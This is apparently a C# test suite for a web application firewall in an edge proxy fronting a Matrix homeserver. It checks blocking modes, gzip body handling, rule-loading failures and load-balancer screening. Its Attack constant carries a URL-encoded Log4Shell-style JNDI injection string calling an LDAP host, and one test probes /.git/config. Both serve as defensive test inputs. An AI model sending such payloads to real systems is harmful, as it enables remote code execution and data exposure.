using System.IO.Compression;
using System.Net;
using Bulwark.Core;
using Bulwark.Core.Control;
using Bulwark.Core.Hosting;
using Bulwark.LoadBalancer.MutualTls;
using Bulwark.Proxy.Firewall;
using Bulwark.Proxy.Firewall.Control;
using Bulwark.Testing;
using Microsoft.Extensions.DependencyInjection;

namespace Bulwark.Edge.Tests.Firewall;

/// <summary>The firewall in a real edge and a real load balancer.</summary>
public sealed class FirewallTests
{
    private const string Attack = "/_matrix/client/v3/publicRooms?server=%24%7Bjndi:ldap://192.0.2.1/a%7D";

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    public async Task A_group_blocks_from_the_moment_on_when_the_control_socket_says_so(int version)
    {
        await using var edge = await EdgeFixture.StartAsync();
        await using var homeserver = await edge.StartHomeserverAsync(_ => Task.CompletedTask);
        using var client = edge.Client(version);
        using var control = new ControlClient(edge.Environment.Data, EdgeTier.Name);

        Assert.Equal(HttpStatusCode.OK, await AskAsync(client, Attack));
        var set = await control.PostAsync(
            "/waf/mode",
            new FirewallModeRequest { Group = "known-bad-inputs", Mode = FirewallMode.Block },
            FirewallControlJson.Default.FirewallModeRequest,
            FirewallControlJson.Default.FirewallGroupView,
            TestContext.Current.CancellationToken);
        Assert.Equal(HttpStatusCode.Forbidden, await AskAsync(client, Attack));
        Assert.Equal(HttpStatusCode.OK, await AskAsync(client, "/_matrix/client/versions"));

        Assert.Equal((FirewallMode.Block, FirewallMode.Count, Environment.ProcessId), (set.Live, set.Declared, set.SetByProcessId));
        var report = await control.GetAsync("/waf/status", FirewallControlJson.Default.FirewallReport, TestContext.Current.CancellationToken);
        Assert.Equal(["core", "known-bad-inputs", "admin-paths", "matrix-sanity", "graphql-sanity"], report.Groups.Select(group => group.Name), StringComparer.Ordinal);
        Assert.All(report.Groups, group => Assert.NotEqual(0, group.Rules));
    }

    /// <summary>Whichever way it came, by both proxies, and whether its length was told or not.</summary>
    [Theory]
    [InlineData(1, false)]
    [InlineData(1, true)]
    [InlineData(2, false)]
    [InlineData(2, true)]
    public async Task A_coded_body_reaches_the_service_decoded(int version, bool hasLength)
    {
        await using var edge = await EdgeFixture.StartAsync((options, _) => options.Waf.Groups.MatrixSanity = FirewallMode.Block);
        var received = "";
        await using var homeserver = await edge.StartHomeserverAsync(async context =>
        {
            using var reader = new StreamReader(context.Request.Body);
            received = $"{context.Request.ContentLength} {context.Request.Headers.ContentEncoding} {await reader.ReadToEndAsync(context.RequestAborted)}";
        });
        using var client = edge.Client(version);
        using var coded = new MemoryStream();
        await using (var coder = new GZipStream(coded, CompressionLevel.Fastest, leaveOpen: true))
            await coder.WriteAsync("""{"displayname":"Alice, Alice, Alice"}"""u8.ToArray(), TestContext.Current.CancellationToken);

        using var request = new HttpRequestMessage(HttpMethod.Put, "/_matrix/client/v3/profile/x/displayname") { Content = new ByteArrayContent(coded.ToArray()) };
        request.Content.Headers.TryAddWithoutValidation("Content-Encoding", "gzip");
        request.Content.Headers.TryAddWithoutValidation("Content-Type", "application/json");
        request.Headers.TryAddWithoutValidation("User-Agent", "Element/1.11");
        request.Headers.TransferEncodingChunked = hasLength ? null : true;
        using var answer = await client.SendAsync(request, TestContext.Current.CancellationToken);

        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        Assert.Equal("""37  {"displayname":"Alice, Alice, Alice"}""", received);
    }

    [Fact]
    public async Task Rules_that_do_not_load_leave_those_in_force_that_do()
    {
        EdgeOptions? declared = null;
        await using var edge = await EdgeFixture.StartAsync((options, _) =>
        {
            options.Waf.Groups.KnownBadInputs = FirewallMode.Block;
            declared = options;
        });
        await using var homeserver = await edge.StartHomeserverAsync(_ => Task.CompletedTask);
        using var client = edge.Client();
        using var directory = new TemporaryDirectory();
        await File.WriteAllTextAsync(Path.Combine(directory.Path, "own.conf"), "SecRule ARGS \"@nothing\" \"id:1\"\n", TestContext.Current.CancellationToken);
        var settings = edge.Services.GetRequiredService<ISettingsSwap<EdgeOptions>>();

        Assert.Throws<OperatorException>(() => settings.Prepare(declared! with { Waf = new FirewallOptions { Crs = new CoreRuleSetOptions { Folder = directory.Path } } }, edge.Environment));

        Assert.Equal(HttpStatusCode.Forbidden, await AskAsync(client, Attack));
        Assert.Equal(HttpStatusCode.OK, await AskAsync(client, "/_matrix/client/versions"));
    }

    [Fact]
    public async Task The_load_balancer_looks_at_strangers_and_not_again_at_what_an_edge_has_seen()
    {
        await using var edge = await EdgeFixture.StartAsync(
            (options, _) => options.Waf.Groups.AdminPaths = FirewallMode.Off,
            (options, _) => options.MutualTls = MutualTlsMode.Off);
        using var client = edge.Client();
        using var handler = new SocketsHttpHandler { AllowAutoRedirect = false, SslOptions = edge.OriginTls() };
        using var stranger = new HttpClient(handler);

        Assert.Equal(HttpStatusCode.Found, await AskAsync(client, "/.git/config"));
        Assert.Equal(HttpStatusCode.NotFound, await AskAsync(stranger, $"https://127.0.0.1:{edge.LoadBalancerPort}/.git/config"));
        Assert.Equal(HttpStatusCode.Found, await AskAsync(stranger, $"https://127.0.0.1:{edge.LoadBalancerPort}/"));
    }

    private static async Task<HttpStatusCode> AskAsync(HttpClient client, string target)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, target);
        if (target.StartsWith("https:", StringComparison.Ordinal))
            request.Headers.Host = "localhost";

        request.Headers.Add("User-Agent", "Element/1.11");
        using var answer = await client.SendAsync(request, TestContext.Current.CancellationToken);
        return answer.StatusCode;
    }
}
